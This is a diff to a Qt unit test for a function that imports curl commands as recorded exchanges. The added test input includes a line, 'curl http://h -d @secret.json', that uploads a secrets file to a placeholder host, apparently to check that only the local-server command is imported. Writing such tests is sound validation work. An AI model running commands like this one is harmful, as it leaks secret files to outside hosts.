@@ -181,6 +181,10 @@ private slots:
         QCOMPARE(beside->first().server, QStringLiteral("http://127.0.0.1:8000"));
         const auto itself = archive::importedExchanges("curl http://127.0.0.1:8000/v1", { server }, now());
         QCOMPARE(itself->first().server, server.id());
+        const auto some = archive::importedExchanges(
+            "curl http://127.0.0.1:8000/v1\ncurl http://h -d @secret.json", { server }, now());
+        QVERIFY(some);
+        QCOMPARE(some->size(), 1);
     }
 
     void redactedByDefault_data()
